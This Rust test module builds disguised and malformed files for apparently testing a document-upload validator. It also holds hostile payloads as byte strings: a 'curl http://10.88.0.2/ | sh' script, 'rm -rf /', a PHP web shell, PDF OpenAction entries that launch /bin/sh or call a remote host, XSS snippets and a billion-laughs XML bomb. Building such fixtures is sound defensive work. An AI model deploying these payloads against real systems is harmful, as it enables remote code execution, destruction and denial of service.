//! Files that are not what they say: two formats in one, names that lie, programs, nothing at all.

use super::Trap;
use super::pictures::written;
use crate::papers::{attestation, one_page, text_content};
use image::ImageFormat;

/// The test file of virus scanners, in two pieces so that no scanner takes this source for it.
const EICAR: [&str; 2] = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STAND", "ARD-ANTIVIRUS-TEST-FILE!$H+H*"];
const PAGE: &[u8] = b"<html><body><script>fetch('http://10.88.0.2/')</script></body></html>";

pub(super) fn traps() -> Vec<Trap> {
    // The paper in front is one that would be accepted: what hides behind it must be seen.
    let paper = attestation("HAB4598765");
    let zip = archive("facture.exe", b"MZ rien");
    let (jpeg, png) = (written(ImageFormat::Jpeg), written(ImageFormat::Png));
    let join = |parts: &[&[u8]]| parts.concat();
    let mut traps = vec![
        Trap::named("pdf_puis_zip.pdf", join(&[&paper, &zip])),
        Trap::named("zip_puis_pdf.pdf", join(&[&zip, &paper])),
        Trap::named("pdf_puis_html.pdf", join(&[&paper, PAGE])),
        Trap::named("html_puis_pdf.html", join(&[PAGE, &paper])),
        Trap::named("html_long_puis_pdf.html", join(&[PAGE, &[b' '; 2000], &paper])),
        Trap::named("jpeg_puis_pdf.pdf", join(&[&jpeg, &paper])),
        Trap::named("pdf_avec_script_en_tete.pdf", with_head(&paper)),
        Trap::named("jpeg_puis_zip.jpg", join(&[&jpeg, &zip])),
        Trap::named(
            "jpeg_avec_script.jpg",
            join(&[&jpeg[..2], b"\xff\xfe\x00\x1b<script>alert(1)</script>", &jpeg[2..]]),
        ),
        Trap::named("png_puis_zip.png", join(&[&png, &zip])),
        Trap::named("png_puis_programme.png", join(&[&png, b"#!/bin/sh\nrm -rf /\n"])),
        Trap::named("gif_puis_zip.gif", join(&[b"GIF89a", &zip])),
        Trap::named("zip_nomme_pdf.pdf", zip.clone()),
        Trap::named("programme_nomme_pdf.pdf", join(&[b"MZ", &[0x90; 3000]])),
        Trap::named("elf_nomme_jpg.jpg", join(&[b"\x7fELF\x02\x01\x01", &[0; 3000]])),
        Trap::named("script_nomme_pdf.pdf", b"#!/bin/sh\ncurl http://10.88.0.2/ | sh\n".to_vec()),
        Trap::named("php_nomme_jpg.jpg", b"<?php system($_GET['c']); ?>".to_vec()),
        Trap::named("xml_bombe.xml", bomb()),
        Trap::named("eicar.com", EICAR.concat().into_bytes()),
        Trap::named("eicar_nomme_pdf.pdf", EICAR.concat().into_bytes()),
        Trap::named("png_nomme_pdf.pdf", png.clone()),
        Trap::named("jpeg_nomme_tif.tif", jpeg.clone()),
        Trap::named("pdf_nomme_exe.exe", stranger()),
        Trap::named("pdf_nomme_jpg.jpg", stranger()),
        Trap::named("pdf_sans_nom", stranger()),
        Trap::named("pdf_apres_lignes.pdf", join(&[&[b'\n'; 500], &stranger()])),
        Trap::named("pdf_apres_marque.pdf", join(&[b"\xef\xbb\xbf", &stranger()])),
        Trap::named("pdf_apres_bruit.pdf", join(&[&[0x55; 100], &stranger()])),
        Trap::named("vide.pdf", Vec::new()),
        Trap::named("un_octet.pdf", b"%".to_vec()),
        Trap::named("espaces.pdf", vec![b' '; 5000]),
        Trap::named("zeros.pdf", vec![0; 1_000_000]),
        Trap::named("tete_seule.pdf", b"%PDF-1.7".to_vec()),
        Trap::named("texte_utf16.txt", b"\xff\xfeC\0o\0n\0t\0r\0a\0t\0".to_vec()),
        Trap::named("trop_gros.pdf", vec![b'%'; 50_000_001]),
    ];
    for (name, action) in [
        ("pdf_lance", "/OpenAction << /S /Launch /F (/bin/sh) >>"),
        ("pdf_javascript", "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://10.88.0.2/'\\)) >>"),
        ("pdf_appelle", "/OpenAction << /S /URI /URI (http://10.88.0.2/) >>"),
        ("pdf_envoie", "/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://10.88.0.2/) >> >>"),
        ("pdf_va_ailleurs", "/OpenAction << /S /GoToR /F (\\\\\\\\10.88.0.2\\\\partage\\\\x.pdf) /D [0 /Fit] >>"),
        ("pdf_fichier_externe", "/F (/etc/passwd) /FFilter /FlateDecode"),
    ] {
        traps.push(Trap::new(name, one_page(&text_content("ATTESTATION"), "", "", action)));
    }
    traps
}

/// A paper that nothing accepts.
fn stranger() -> Vec<u8> {
    crate::papers::stranger("HAB4512987")
}

/// A comment of script right behind the header, where browsers look.
fn with_head(paper: &[u8]) -> Vec<u8> {
    let mut bytes = paper.to_vec();
    bytes.splice(9..9, b"%<script>alert(1)</script>\n".iter().copied());
    bytes
}

/// A ZIP archive with one member, stored.
fn archive(name: &str, data: &[u8]) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(data);
    let size = (data.len() as u32).to_le_bytes();
    let [low, high] = (name.len() as u16).to_le_bytes();
    let common =
        [b"\x14\0\0\0\0\0\0\0\x21\0".as_slice(), &crc.sum().to_le_bytes(), &size, &size, &[low, high, 0, 0]].concat();
    let member = [b"PK\x03\x04".as_slice(), &common, name.as_bytes(), data].concat();
    let entry = [b"PK\x01\x02\x14\0".as_slice(), &common, &[0; 14], name.as_bytes()].concat();
    let [length, start] = [entry.len() as u32, member.len() as u32].map(u32::to_le_bytes);
    let end = [b"PK\x05\x06\0\0\0\0\x01\0\x01\0".as_slice(), &length, &start, &[0, 0]].concat();
    [member, entry, end].concat()
}

/// A billion laughs.
fn bomb() -> Vec<u8> {
    let mut text = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a0 'ha'>".to_owned();
    for level in 1..10 {
        text.push_str(&format!("<!ENTITY a{level} '{}'>", format!("&a{};", level - 1).repeat(10)));
    }
    (text + "]><a>&a9;</a>").into_bytes()
}
